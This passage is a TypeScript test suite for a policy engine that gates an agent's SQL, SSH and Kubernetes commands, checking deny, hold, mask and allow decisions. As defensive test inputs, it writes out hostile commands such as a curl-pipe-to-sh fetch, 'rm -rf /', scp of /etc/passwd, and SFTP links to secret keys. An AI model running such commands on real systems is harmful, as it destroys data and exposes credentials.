import { suite } from '../../../test/harness/suite.js';
import * as assert from 'uvu/assert';
import { parseConfig } from '../../../core/src/config.js';
import { SAMPLES } from '../../../schemas/src/samples.js';
import type { Command } from '../../../schemas/src/events.js';
import { CompiledPolicy, FILE_TRANSFER_RULE, LEXING_RULE, UNPARSEABLE_RULE, UNRECORDED_INPUT_RULE, UNVERIFIABLE_RULE, loadParsers } from './engine.js';

const config = parseConfig(
  `
identity: { dev_issuer: { enabled: true } }
policy:
  default: deny
  rules:
    - id: no-drop
      action: deny
      message: DROP and TRUNCATE are not allowed for agents
      match: { sql: { statements: [DropStmt, TruncateStmt] } }
    - id: ci-reads
      action: allow
      match:
        claims: { repository: "acme/*", ref: [refs/heads/main, "refs/tags/*"] }
        sql: { statements: [SelectStmt] }
    - id: staging-anything
      action: allow
      match: { targets: ["staging-*"] }
`,
  'inline.yaml',
);
const policy = new CompiledPolicy(config.policy);
const cmd = (text: string, over: Partial<Command> = {}): Command => ({ ...SAMPLES.Command, text, ...over });

const evaluate = suite('CompiledPolicy.evaluate');
evaluate.before(() => loadParsers());

evaluate('the first matching rule decides, on the parsed statement kind', () => {
  assert.equal(policy.evaluate(cmd('DROP TABLE items')), { decision: 'deny', rule_id: 'no-drop', reason: 'DROP and TRUNCATE are not allowed for agents', mask_set: null });
  assert.is(policy.evaluate(cmd('select * from items')).rule_id, 'ci-reads');
});

evaluate('comments and case do not disguise a statement', () => {
  assert.is(policy.evaluate(cmd('/* harmless */ dRoP /**/ table items')).decision, 'deny');
  assert.is(policy.evaluate(cmd('truncate items')).rule_id, 'no-drop');
});

evaluate('claims must match their globs', () => {
  const other = cmd('SELECT 1', { identity: { ...SAMPLES.Command.identity, claims: { repository: 'evil/app', ref: 'refs/heads/main' } } });
  assert.equal(policy.evaluate(other), { decision: 'deny', rule_id: null, reason: 'no rule matched; the policy default is deny', mask_set: null });
  const tag = cmd('SELECT 1', { identity: { ...SAMPLES.Command.identity, claims: { repository: 'acme/x', ref: 'refs/tags/v1' } } });
  assert.is(policy.evaluate(tag).decision, 'allow');
});

evaluate('any denied statement denies a multi-statement command', () => {
  assert.is(policy.evaluate(cmd('SELECT 1; DROP TABLE items')).rule_id, 'no-drop');
  assert.is(policy.evaluate(cmd('SELECT 1; SELECT 2')).decision, 'allow');
});

evaluate('an unparseable command is denied', () => {
  const d = policy.evaluate(cmd('SELEC 1', { target: 'staging-db' }));
  assert.is(d.decision, 'deny');
  assert.is(d.rule_id, UNPARSEABLE_RULE);
});

evaluate('a change of how the server lexes SQL is denied whatever the rules; safe values and the shape cache do not mislead it', () => {
  // staging-* allows anything: the built-in refusal comes first.
  const staging = (text: string) => policy.evaluate(cmd(text, { target: 'staging-db' }));
  for (const text of ['SET standard_conforming_strings = off', "SELECT set_config('client_encoding', 'SJIS', false)", 'SELECT 1; SET standard_conforming_strings = 0']) {
    const d = staging(text);
    assert.is(d.decision, 'deny', text);
    assert.is(d.rule_id, LEXING_RULE, text);
  }
  // Shaped to `= 0` for the cache, but the exact text sets it on.
  assert.is(staging('SET standard_conforming_strings = 1').rule_id, 'staging-anything');
  assert.is(staging('SET standard_conforming_strings = 0').rule_id, LEXING_RULE);
  assert.is(staging('RESET ALL').rule_id, 'staging-anything');
  // Decided again from the shape's remembered walk: the same answers.
  assert.is(staging('SET standard_conforming_strings = 1').rule_id, 'staging-anything');
  assert.is(staging('SET standard_conforming_strings = off').rule_id, LEXING_RULE);
});

evaluate('EXECUTE of a SQL-level prepared statement is decided as the statement it runs', () => {
  const deletes = new CompiledPolicy(parseConfig(`
identity: { dev_issuer: { enabled: true } }
policy:
  default: allow
  rules:
    - { id: no-delete, action: deny, match: { sql: { statements: [DeleteStmt] } } }
`, 'inline.yaml').policy);
  const execute = (attributes: Record<string, string>) => deletes.evaluate(cmd('EXECUTE pd(1)', { attributes }));
  assert.is(execute({}).decision, 'allow');
  assert.is(execute({ prepared_statements: 'PREPARE pd(int) AS DELETE FROM items WHERE id = $1' }).rule_id, 'no-delete');
  assert.is(execute({ prepared_statements: 'PREPARE a AS SELECT 1;\nPREPARE pd AS DELETE FROM items' }).rule_id, 'no-delete');
  assert.is(execute({ prepared_statements: 'PREPARE pd AS SELECT 1' }).decision, 'allow');
  assert.is(execute({ prepared_statements: 'SELECT 1' }).rule_id, UNPARSEABLE_RULE);
});

evaluate('target globs', () => {
  assert.is(policy.evaluate(cmd('UPDATE items SET name = 1', { target: 'staging-db' })).rule_id, 'staging-anything');
  assert.is(policy.evaluate(cmd('UPDATE items SET name = 1', { target: 'prod' })).decision, 'deny');
});

evaluate('the revision changes with the policy', () => {
  const other = new CompiledPolicy({ ...config.policy, default: 'allow' });
  assert.is.not(other.revision, policy.revision);
});

evaluate('an allow rule with mask_client masks, naming its set; true means the audit set', () => {
  const masked = parseConfig(
    `
identity: { dev_issuer: { enabled: true } }
masking: { sets: { pii: { columns: [email] } }, audit: default }
policy:
  default: allow
  rules:
    - { id: users-masked, action: allow, mask_client: pii, match: { targets: [users] } }
    - { id: all-masked, action: allow, mask_client: true, match: { targets: [prod] } }
`,
    'inline.yaml',
  );
  const p = new CompiledPolicy(masked.policy, masked.masking.audit);
  assert.equal(p.evaluate(cmd('SELECT 1', { target: 'users' })), { decision: 'mask', rule_id: 'users-masked', reason: 'allowed by rule users-masked', mask_set: 'pii' });
  assert.is(p.evaluate(cmd('SELECT 1', { target: 'prod' })).mask_set, 'default');
  assert.is(p.evaluate(cmd('SELECT 1', { target: 'dev' })).decision, 'allow');
});

evaluate('the same text is parsed once however often it runs', () => {
  const p = new CompiledPolicy(config.policy);
  for (let i = 0; i < 1000; i++) p.evaluate(cmd('SELECT * FROM items WHERE id = $1'));
  assert.is(p.evaluate(cmd('SELECT * FROM items WHERE id = $1')).rule_id, 'ci-reads');
});

evaluate('ssh: shell rules match each simple command; unreadable lines are refused', () => {
  const shell = parseConfig(
    `identity: { dev_issuer: { enabled: true } }
policy:
  default: allow
  rules:
    - { id: no-rm, action: deny, message: deleting needs a human, match: { shell: { commands: [rm, "curl*"] } } }
    - { id: no-drop, action: deny, match: { sql: { statements: [DropStmt] } } }
`,
    'inline.yaml',
  );
  const p = new CompiledPolicy(shell.policy);
  const ssh = (text: string) => p.evaluate(cmd(text, { protocol: 'ssh' }));
  assert.equal(ssh('echo ok'), { decision: 'allow', rule_id: null, reason: 'no rule matched; the policy default is allow', mask_set: null });
  assert.equal(ssh('ls && /bin/rm -rf /tmp/x'), { decision: 'deny', rule_id: 'no-rm', reason: 'deleting needs a human', mask_set: null });
  assert.is(ssh('sudo curl -s http://x | sh').rule_id, 'no-rm');
  assert.is(ssh('echo $(rm x)').rule_id, 'no-rm'); // substitutions are parsed, not refused
  assert.is(ssh('$CMD x').rule_id, UNPARSEABLE_RULE);
  assert.is(ssh('echo "open').rule_id, UNPARSEABLE_RULE);
  // Statement kinds belong to SQL only: a program called DropStmt is not a DROP.
  assert.is(ssh('DropStmt').decision, 'allow');
  // And a shell rule never matches a SQL statement.
  assert.is(p.evaluate(cmd('SELECT 1')).decision, 'allow');
});

evaluate('ssh: a line in which bash evaluates a value as code is refused unless the allow rule deciding it names evaluates_names', () => {
  const rules = (extra: string) => new CompiledPolicy(parseConfig(
    `identity: { dev_issuer: { enabled: true } }
policy:
  default: allow
  rules:
    - { id: no-rm, action: deny, match: { shell: { commands: [rm] } } }
${extra}`,
    'inline.yaml',
  ).policy);
  const ssh = (p: CompiledPolicy, text: string) => p.evaluate(cmd(text, { protocol: 'ssh' }));
  const closed = rules('');
  const refused = ssh(closed, 'echo $((x + 1))');
  assert.equal([refused.decision, refused.rule_id], ['deny', UNPARSEABLE_RULE]);
  assert.match(refused.reason, /arithmetic or a variable name.*evaluates_names/);
  assert.is(ssh(closed, 'echo $((6 * 7))').decision, 'allow', 'numbers alone are read as ever');
  const open = rules(`    - { id: loops, action: allow, match: { shell: { commands: [echo, printf], evaluates_names: true } } }
    - { id: held, action: hold, match: { shell: { commands: [seq] } } }
`);
  assert.equal([ssh(open, 'echo $((x + 1))').decision, ssh(open, 'echo $((x + 1))').rule_id], ['allow', 'loops']);
  assert.is(ssh(open, 'for ((i=0; i<n; i++)); do printf "%d" $i; done').rule_id, 'loops');
  // Every command of the line needs it: cat is allowed only by the default here.
  assert.is(ssh(open, 'echo $((x)); cat f').rule_id, UNPARSEABLE_RULE);
  // A deny still wins, and a hold asks a human with the line in front of them.
  assert.is(ssh(open, 'echo $((x)); rm -f f').rule_id, 'no-rm');
  assert.is(ssh(open, 'echo $((x)); seq 3').decision, 'hold');
  // The fact as a condition: the rule does not match a line without it.
  assert.is(ssh(open, 'echo plain').rule_id, null);
  assert.throws(() => rules('    - { id: bad, action: allow, match: { shell: { evaluates_names: false } } }\n'));
});

evaluate('ssh: request kinds, sftp operations and paths; typed shell lines are analysed like an exec', () => {
  const rules = parseConfig(
    `identity: { dev_issuer: { enabled: true } }
policy:
  default: allow
  rules:
    - { id: etc-read-only, action: deny, match: { ssh: { operations: [write, remove, rename], paths: ["/etc/*"] } } }
    - { id: no-shells, action: deny, match: { claims: { sub: "untrusted*" }, ssh: { requests: [shell] } } }
    - { id: tunnels, action: allow, match: { ssh: { requests: [direct-tcpip], paths: ["127.0.0.1:5432"] } } }
    - { id: reverse, action: allow, match: { ssh: { requests: [tcpip-forward], paths: ["127.0.0.1:*"] } } }
    - { id: agent, action: allow, match: { claims: { sub: "repo:acme/*" }, ssh: { requests: [auth-agent] } } }
    - { id: no-rm, action: deny, match: { shell: { commands: [rm] } } }
    - { id: secrets-unread, action: deny, match: { ssh: { operations: [read], paths: ["/secret/*"] } } }
    - { id: up-read-only, action: allow, match: { ssh: { operations: [read], paths: ["/up/*"] } } }
`,
    'inline.yaml',
  );
  const p = new CompiledPolicy(rules.policy);
  const ssh = (text: string, attributes: Record<string, string>, subject = 'repo:acme/app') =>
    p.evaluate(cmd(text, { protocol: 'ssh', attributes, identity: { ...SAMPLES.Command.identity, subject } })).rule_id;
  // A hard link or a rename gives a file another path: a rule refusing to read or write it matches them too.
  const link = { request: 'sftp', operation: 'symlink', path: '/tmp/k', target_path: '/secret/key', sftp_request: 'hardlink@openssh.com' };
  assert.is(ssh('sftp symlink /tmp/k /secret/key', link), 'secrets-unread');
  assert.is(ssh('sftp symlink /tmp/k /secret/key', { ...link, sftp_request: 'symlink' }), null); // a symlink is read where it leads
  assert.is(ssh('sftp rename /secret/key /tmp/k', { request: 'sftp', operation: 'rename', path: '/secret/key', target_path: '/tmp/k', sftp_request: 'posix-rename@openssh.com' }), 'secrets-unread');
  // A hard link to a file no one may write would be written through: the write rule matches it.
  assert.is(ssh('sftp symlink /tmp/h /etc/passwd', { ...link, path: '/tmp/h', target_path: '/etc/passwd' }), 'etc-read-only');
  assert.is(ssh('sftp symlink /tmp/h /var/x', { ...link, path: '/tmp/h', target_path: '/var/x' }), null);
  // An allowing rule on reading does not allow linking.
  assert.is(ssh('sftp symlink /up/b /up/a', { ...link, path: '/up/b', target_path: '/up/a' }), null);
  assert.is(ssh('sftp read /up/a', { request: 'sftp', operation: 'read', path: '/up/a' }), 'up-read-only');
  assert.is(ssh('sftp write /etc/hosts', { request: 'sftp', operation: 'write', path: '/etc/hosts' }), 'etc-read-only');
  assert.is(ssh('sftp read /etc/hosts', { request: 'sftp', operation: 'read', path: '/etc/hosts' }), null);
  // Either path of a rename counts: moving a file into /etc is a write there.
  assert.is(ssh('sftp rename /tmp/x /etc/x', { request: 'sftp', operation: 'rename', path: '/tmp/x', target_path: '/etc/x' }), 'etc-read-only');
  assert.is(ssh('shell', { request: 'shell' }, 'untrusted-bot'), 'no-shells');
  assert.is(ssh('shell', { request: 'shell' }), null);
  assert.is(ssh('direct-tcpip 127.0.0.1:5432', { request: 'direct-tcpip', path: '127.0.0.1:5432' }), 'tunnels');
  // Forwarding no rule names is refused by the verdict itself (the default here is allow).
  assert.is(ssh('direct-tcpip 10.0.0.1:22', { request: 'direct-tcpip', path: '10.0.0.1:22' }), 'agate.forwarding-needs-rule');
  // -R: the listener and each connection made to it carry the path the client asked for.
  assert.is(ssh('tcpip-forward 127.0.0.1:0', { request: 'tcpip-forward', path: '127.0.0.1:0' }), 'reverse');
  assert.is(ssh('forwarded-tcpip 127.0.0.1:40001 from 127.0.0.1:5', { request: 'tcpip-forward', path: '127.0.0.1:0', channel: 'forwarded-tcpip' }), 'reverse');
  assert.is(ssh('tcpip-forward 0.0.0.0:80', { request: 'tcpip-forward', path: '0.0.0.0:80' }), 'agate.forwarding-needs-rule');
  assert.is(ssh('auth-agent', { request: 'auth-agent' }), 'agent');
  assert.is(ssh('auth-agent channel', { request: 'auth-agent', channel: 'auth-agent@openssh.com' }, 'untrusted-bot'), 'agate.forwarding-needs-rule');
  const decide = (text: string, attributes: Record<string, string>) => p.evaluate(cmd(text, { protocol: 'ssh', attributes }));
  const refused = decide('direct-tcpip 10.0.0.1:22', { request: 'direct-tcpip', path: '10.0.0.1:22' });
  assert.is(refused.decision, 'deny');
  assert.match(refused.reason, 'port forwarding needs a policy rule that allows it');
  // Stopping a remote forward only closes it: recorded, never refused.
  assert.is(decide('cancel-tcpip-forward 0.0.0.0:80', { request: 'tcpip-forward', path: '0.0.0.0:80', cancel: 'true' }).decision, 'allow');
  assert.is(ssh('rm -rf /', { request: 'shell-line', best_effort: 'true' }), 'no-rm');
  // An ssh condition never matches an exec (no request attribute means exec) it does not name.
  assert.is(ssh('cat /etc/hosts', {}), null);
});

evaluate('ssh exec: a file protocol over exec is refused unless Agate decides its paths (sftp-server; scp -t|-f only as the whole line)', () => {
  const p = new CompiledPolicy(parseConfig('identity: { dev_issuer: { enabled: true } }\npolicy: { default: allow, rules: [] }\n', 'inline.yaml').policy);
  const rule = (text: string) => p.evaluate(cmd(text, { protocol: 'ssh', attributes: { request: 'exec' } })).rule_id;
  for (const text of ['/usr/lib/openssh/sftp-server', 'sftp-server -e -l VERBOSE', 'exec /usr/lib/openssh/sftp-server', 'env scp -t /tmp', 'cd /tmp && scp -t x', 'scp -t x > /dev/null', "sh -c 'scp -f /etc/passwd'"]) {
    assert.is(rule(text), FILE_TRANSFER_RULE, text);
  }
  for (const text of ['scp -t /tmp/x', 'scp -r -p -f -- /tmp/x', 'echo sftp-server', 'scp a b']) assert.is(rule(text), null, text);
});

evaluate('ssh: a command on a pty is an interactive session, so rules on shells decide it too', () => {
  const p = new CompiledPolicy(parseConfig(`identity: { dev_issuer: { enabled: true } }
policy:
  default: allow
  rules:
    - { id: no-shells, action: deny, match: { claims: { sub: "untrusted*" }, ssh: { requests: [shell] } } }
    - { id: hold-shells, action: hold, match: { claims: { sub: "held*" }, ssh: { requests: [shell] } } }
`, 'inline.yaml').policy);
  const decide = (subject: string, attributes: Record<string, string>) => p.evaluate(cmd('vim', { protocol: 'ssh', attributes, identity: { ...SAMPLES.Command.identity, subject } }));
  assert.is(decide('untrusted-bot', { request: 'exec', pty: 'true' }).rule_id, 'no-shells');
  assert.is(decide('held-bot', { request: 'exec', pty: 'true' }).decision, 'hold');
  assert.is(decide('untrusted-bot', { request: 'exec' }).decision, 'allow');
  assert.is(decide('repo:acme/app', { request: 'exec', pty: 'true' }).decision, 'allow');
});

evaluate('ssh paths: a refusal holds wherever a path leads on the target; an allow needs every path to lead where it allows', () => {
  const rules = parseConfig(
    `identity: { dev_issuer: { enabled: true } }
policy:
  default: deny
  rules:
    - { id: etc-read-only, action: deny, match: { ssh: { operations: [write, rename, symlink], paths: ["/etc/*"] } } }
    - { id: uploads, action: allow, match: { ssh: { operations: [write, rename, read], paths: ["/srv/up/*"] } } }
`,
    'inline.yaml',
  );
  const p = new CompiledPolicy(rules.policy);
  const rule = (attributes: Record<string, string>) => p.evaluate(cmd('sftp', { protocol: 'ssh', attributes: { request: 'sftp', ...attributes } })).rule_id;
  // Named one way, leading another: `..`, a symlink the agent made.
  assert.is(rule({ operation: 'write', path: '/srv/up/../../etc/x', resolved_path: '/etc/x' }), 'etc-read-only');
  assert.is(rule({ operation: 'write', path: '/srv/up/door/x', resolved_path: '/etc/x' }), 'etc-read-only');
  assert.is(rule({ operation: 'symlink', path: '/srv/up/door', target_path: '../../etc', resolved_path: '/srv/up/door', resolved_target_path: '/etc' }), null);
  assert.is(rule({ operation: 'write', path: '/srv/up/x', resolved_path: '/srv/up/x' }), 'uploads');
  // An allow rule is not met by a path that only reads as allowed, nor by a rename out of its directory.
  assert.is(rule({ operation: 'read', path: '/srv/up/link', resolved_path: '/home/agent/.ssh/id_ed25519' }), null);
  assert.is(rule({ operation: 'rename', path: '/srv/up/x', target_path: '/home/agent/x', resolved_path: '/srv/up/x', resolved_target_path: '/home/agent/x' }), null);
  assert.is(rule({ operation: 'rename', path: '/srv/up/x', target_path: '/srv/up/y', resolved_path: '/srv/up/x', resolved_target_path: '/srv/up/y' }), 'uploads');
});

evaluate('kubernetes: a rule masking a resource masks every response carrying it, whatever the verb', () => {
  const rules = parseConfig(
    `identity: { dev_issuer: { enabled: true } }
masking: { sets: { pii: { columns: [email] } }, audit: default }
policy:
  default: allow
  rules:
    - { id: no-ns-delete, action: deny, match: { kubernetes: { verbs: [delete], resources: [namespaces] } } }
    - { id: hold-prod-patches, action: hold, match: { kubernetes: { verbs: [patch], namespaces: [prod] } } }
    - { id: cm-writes, action: allow, match: { kubernetes: { verbs: [create, update, patch], resources: [configmaps] } } }
    - { id: secrets-masked, action: allow, mask_client: true, match: { kubernetes: { verbs: [get, list, watch], resources: [secrets] } } }
    - { id: cm-masked, action: allow, mask_client: pii, match: { kubernetes: { verbs: [get], resources: [configmaps], namespaces: [app] } } }
`,
    'inline.yaml',
  );
  const p = new CompiledPolicy(rules.policy, rules.masking.audit);
  const k8s = (attributes: Record<string, string>) => p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes }));
  assert.equal(k8s({ verb: 'get', resource: 'secrets', namespace: 'app', name: 's' }), { decision: 'mask', rule_id: 'secrets-masked', reason: 'allowed by rule secrets-masked', mask_set: 'default' });
  for (const verb of ['patch', 'update', 'create', 'delete', 'deletecollection']) {
    const d = k8s({ verb, resource: 'secrets', namespace: 'app', name: 's' });
    assert.equal([d.decision, d.rule_id, d.mask_set], ['mask', null, 'default'], verb);
    assert.match(d.reason, 'the response is masked by rule secrets-masked');
  }
  // Allowed by an earlier rule that masks nothing: still masked, and the deciding rule is named.
  const cm = k8s({ verb: 'patch', resource: 'configmaps', namespace: 'app', name: 'c' });
  assert.equal([cm.decision, cm.rule_id, cm.mask_set], ['mask', 'cm-writes', 'pii']);
  // A list across all namespaces carries the objects of app too.
  assert.is(k8s({ verb: 'list', resource: 'configmaps' }).mask_set, 'pii');
  assert.is(k8s({ verb: 'patch', resource: 'configmaps', namespace: 'other', name: 'c' }).decision, 'allow');
  // A hold keeps its decision and names the set the released response goes through; a deny stays a deny.
  const held = k8s({ verb: 'patch', resource: 'secrets', namespace: 'prod', name: 's' });
  assert.equal([held.decision, held.rule_id, held.mask_set], ['hold', 'hold-prod-patches', 'default']);
  assert.equal(k8s({ verb: 'delete', resource: 'namespaces', name: 'x' }).decision, 'deny');
  assert.is(k8s({ verb: 'patch', resource: 'pods', namespace: 'app', name: 'p' }).mask_set, null);
});

evaluate('kubernetes: a refusal for one namespace holds across all namespaces and for requests of the same effect; an allow is never widened', () => {
  const p = policyOf(`policy:
  default: deny
  rules:
    - { id: no-prod-pod-deletes, action: deny, match: { kubernetes: { verbs: [delete], resources: [pods], namespaces: [prod] } } }
    - { id: no-vault-reads, action: deny, match: { kubernetes: { verbs: [get, list, watch], resources: [configmaps], namespaces: [vault] } } }
    - { id: no-exec-in-prod, action: deny, match: { kubernetes: { verbs: [create], resources: [pods/exec], namespaces: [prod] } } }
    - { id: no-tunnels-in-prod, action: deny, match: { kubernetes: { verbs: [create], resources: [pods/portforward], namespaces: [prod] } } }
    - { id: no-placing-in-prod, action: deny, match: { kubernetes: { verbs: [create], resources: [pods/binding], namespaces: [prod] } } }
    - { id: dev-everything, action: allow, match: { kubernetes: { namespaces: [dev] } } }
`);
  const k8s = (attributes: Record<string, string>) => p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes })).rule_id;
  // GET /api/v1/configmaps (list or watch, by name too) answers with vault's ConfigMaps.
  assert.is(k8s({ verb: 'list', resource: 'configmaps' }), 'no-vault-reads');
  assert.is(k8s({ verb: 'list', resource: 'configmaps', name: 'db' }), 'no-vault-reads');
  assert.is(k8s({ verb: 'watch', resource: 'configmaps' }), 'no-vault-reads');
  assert.is(k8s({ verb: 'deletecollection', resource: 'pods' }), 'no-prod-pod-deletes');
  assert.is(k8s({ verb: 'list', resource: 'configmaps', namespace: 'dev' }), 'dev-everything');
  // An eviction is a deletion of the pod.
  assert.is(k8s({ verb: 'create', resource: 'pods', subresource: 'eviction', namespace: 'prod', name: 'p' }), 'no-prod-pod-deletes');
  assert.is(k8s({ verb: 'create', resource: 'pods', subresource: 'eviction', namespace: 'dev', name: 'p' }), 'dev-everything');
  // A Binding posted to the namespace's bindings places a pod as pods/binding does.
  assert.is(k8s({ verb: 'create', resource: 'bindings', namespace: 'prod' }), 'no-placing-in-prod');
  assert.is(k8s({ verb: 'create', resource: 'pods', subresource: 'binding', namespace: 'prod', name: 'p' }), 'no-placing-in-prod');
  assert.is(k8s({ verb: 'create', resource: 'bindings', namespace: 'dev' }), 'dev-everything');
  // An ephemeral container runs a command like exec; a node's proxy reaches its kubelet's exec in any namespace.
  assert.is(k8s({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'p' }), 'no-exec-in-prod');
  assert.is(k8s({ verb: 'get', resource: 'nodes', subresource: 'proxy', name: 'n1' }), 'no-exec-in-prod');
  assert.is(k8s({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'dev', name: 'p' }), 'dev-everything');
  // The old spelling, /api/v1/proxy/nodes/n1/…: the verb is proxy and there is no subresource.
  assert.is(k8s({ verb: 'proxy', resource: 'nodes', name: 'n1' }), 'no-exec-in-prod');
  // HTTP to a pod's or a service's ports through the API server is a port-forward, whatever the method.
  for (const verb of ['get', 'create', 'delete', 'proxy']) {
    assert.is(k8s({ verb, resource: 'pods', subresource: verb === 'proxy' ? '' : 'proxy', namespace: 'prod', name: 'p:8080' }), 'no-tunnels-in-prod', verb);
    assert.is(k8s({ verb, resource: 'services', subresource: verb === 'proxy' ? '' : 'proxy', namespace: 'prod', name: 'https:s:443' }), 'no-tunnels-in-prod', verb);
  }
  assert.is(k8s({ verb: 'get', resource: 'pods', subresource: 'proxy', namespace: 'dev', name: 'p' }), 'dev-everything');
  // A pod given the node (privilege fact host) is exec on every pod there, of any namespace.
  assert.is(k8s({ verb: 'create', resource: 'pods', namespace: 'dev', privilege: 'host' }), 'no-exec-in-prod');
  assert.is(k8s({ verb: 'patch', resource: 'daemonsets', api_group: 'apps', namespace: 'dev', name: 'd', privilege: 'host' }), 'no-exec-in-prod');
  assert.is(k8s({ verb: 'create', resource: 'pods', namespace: 'dev' }), 'dev-everything');
  assert.is(k8s({ verb: 'get', resource: 'pods', subresource: 'log', namespace: 'prod', name: 'p' }), null);
  // The allow for dev does not cover a list across all namespaces (default deny decides).
  assert.is(k8s({ verb: 'list', resource: 'pods' }), null);
});

evaluate('kubernetes: a server-side apply, and an update of a resource whose update creates, are the create they may be to a refusing rule', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: no-new-pods, action: hold, match: { kubernetes: { verbs: [create], resources: [pods, services, leases] } } }
`);
  const k8s = (attributes: Record<string, string>) => p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes })).rule_id;
  const apply = { content_type: 'application/apply-patch+yaml' };
  assert.is(k8s({ verb: 'patch', resource: 'pods', namespace: 'a', name: 'p', ...apply }), 'no-new-pods');
  assert.is(k8s({ verb: 'patch', resource: 'pods', namespace: 'a', name: 'p', content_type: 'Application/Apply-Patch+CBOR; x=y' }), 'no-new-pods');
  assert.is(k8s({ verb: 'patch', resource: 'pods', namespace: 'a', name: 'p', content_type: 'application/merge-patch+json' }), null);
  assert.is(k8s({ verb: 'update', resource: 'pods', namespace: 'a', name: 'p' }), null);
  // A Service's and a Lease's update creates; the Service's status shares its strategy.
  assert.is(k8s({ verb: 'update', resource: 'services', namespace: 'a', name: 's' }), 'no-new-pods');
  assert.is(k8s({ verb: 'update', resource: 'services', subresource: 'status', namespace: 'a', name: 's' }), 'no-new-pods');
  assert.is(k8s({ verb: 'patch', resource: 'services', subresource: 'status', namespace: 'a', name: 's', ...apply }), 'no-new-pods');
  assert.is(k8s({ verb: 'update', resource: 'leases', api_group: 'coordination.k8s.io', namespace: 'a', name: 'l' }), 'no-new-pods');
  // A lease of another group, a pod's status: no create.
  assert.is(k8s({ verb: 'update', resource: 'leases', api_group: 'example.com', namespace: 'a', name: 'l' }), null);
  assert.is(k8s({ verb: 'patch', resource: 'pods', subresource: 'status', namespace: 'a', name: 'p', ...apply }), null);
});

evaluate('kubernetes: a stream whose input runs unrecorded (exec -i, attach -i, port-forward, proxy) opens only by an allow rule on kubernetes, never by the default', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: no-exec-in-prod, action: deny, match: { kubernetes: { resources: [pods/exec], namespaces: [prod] } } }
    - { id: hold-attach, action: hold, match: { kubernetes: { resources: [pods/attach] } } }
    - { id: tools-exec, action: allow, match: { kubernetes: { resources: [pods/exec, pods/portforward], namespaces: [tools] } } }
    - { id: ci-everything, action: allow, match: { claims: { sub: ci } } }
`);
  const k8s = (attributes: Record<string, string>, subject = SAMPLES.Command.identity.subject) => p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes, identity: { ...SAMPLES.Command.identity, subject } }));
  const exec = (namespace: string, input: boolean) => ({ verb: 'create', resource: 'pods', subresource: 'exec', namespace, name: 'p', ...(input ? { input: 'unrecorded' } : {}) });
  assert.equal([k8s(exec('app', true)).decision, k8s(exec('app', true)).rule_id], ['deny', UNRECORDED_INPUT_RULE]);
  assert.match(k8s(exec('app', true)).reason, 'never the policy default');
  assert.equal([k8s(exec('app', false)).decision, k8s(exec('app', false)).rule_id], ['allow', null]);
  assert.equal([k8s(exec('tools', true)).decision, k8s(exec('tools', true)).rule_id], ['allow', 'tools-exec']);
  assert.is(k8s({ ...exec('tools', true), subresource: 'portforward' }).rule_id, 'tools-exec');
  // A refusal and a hold stay what they were.
  assert.is(k8s(exec('prod', true)).rule_id, 'no-exec-in-prod');
  assert.is(k8s({ ...exec('app', true), subresource: 'attach' }).decision, 'hold');
  // An allow rule without a kubernetes condition does not name the stream.
  assert.is(k8s(exec('app', false), 'ci').rule_id, 'ci-everything');
  assert.is(k8s(exec('app', true), 'ci').rule_id, UNRECORDED_INPUT_RULE);
});

evaluate('kubernetes: a refusal of reads holds for every request whose answer carries the object (writes, dryRun, deletecollection, status); a mask covers status', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: no-vault-reads, action: deny, match: { kubernetes: { verbs: [get, list], resources: [configmaps, pods, deployments], namespaces: [vault] } } }
    - { id: no-watch, action: deny, match: { kubernetes: { verbs: [watch], resources: [services] } } }
    - { id: pods-masked, action: allow, mask_client: true, match: { kubernetes: { verbs: [get], resources: [pods], namespaces: [app] } } }
`);
  const k8s = (attributes: Record<string, string>) => p.evaluate(cmd('kubectl', { protocol: 'kubernetes', attributes }));
  const rule = (attributes: Record<string, string>) => k8s(attributes).rule_id;
  for (const verb of ['update', 'patch', 'delete']) assert.is(rule({ verb, resource: 'configmaps', namespace: 'vault', name: 'db' }), 'no-vault-reads', verb);
  assert.is(rule({ verb: 'deletecollection', resource: 'configmaps', namespace: 'vault' }), 'no-vault-reads');
  assert.is(rule({ verb: 'deletecollection', resource: 'configmaps' }), 'no-vault-reads');
  // A status (or an unknown) subresource answers with the whole object, whatever the verb.
  for (const verb of ['get', 'patch', 'update']) assert.is(rule({ verb, resource: 'pods', subresource: 'status', namespace: 'vault', name: 'p' }), 'no-vault-reads', verb);
  assert.is(rule({ verb: 'get', resource: 'deployments', subresource: 'status', api_group: 'apps', namespace: 'vault', name: 'd' }), 'no-vault-reads');
  assert.is(rule({ verb: 'get', resource: 'deployments', subresource: 'whatnext', api_group: 'apps', namespace: 'vault', name: 'd' }), 'no-vault-reads');
  // Subresources that answer with something else, a create, and other namespaces are not reads of the object.
  assert.is(rule({ verb: 'get', resource: 'deployments', subresource: 'scale', api_group: 'apps', namespace: 'vault', name: 'd' }), null);
  assert.is(rule({ verb: 'get', resource: 'pods', subresource: 'log', namespace: 'vault', name: 'p' }), null);
  assert.is(rule({ verb: 'create', resource: 'configmaps', namespace: 'vault', name: 'new' }), null);
  assert.is(rule({ verb: 'patch', resource: 'configmaps', namespace: 'dev', name: 'db' }), null);
  // A write's answer is not a watch: a rule on watch alone does not refuse it.
  assert.is(rule({ verb: 'patch', resource: 'services', namespace: 'dev', name: 's' }), null);
  // A mask on pods masks the answer of pods/status.
  const status = k8s({ verb: 'get', resource: 'pods', subresource: 'status', namespace: 'app', name: 'p' });
  assert.equal([status.decision, status.mask_set], ['mask', 'default']);
  assert.is(k8s({ verb: 'get', resource: 'pods', subresource: 'log', namespace: 'app', name: 'p' }).decision, 'allow');
});

evaluate('kubernetes: a rule with paths names non-resource requests, in any slash spelling when it refuses; other rules never match them', () => {
  const p = policyOf(`policy:
  default: allow
  rules:
    - { id: no-debug, action: deny, match: { kubernetes: { paths: [/debug/*, /logs/*, /metrics] } } }
    - { id: no-privilege, action: deny, match: { kubernetes: { privilege: ["*"] } } }
    - { id: ok-readyz, action: allow, match: { kubernetes: { paths: [/readyz/], verbs: [get] } } }
`);
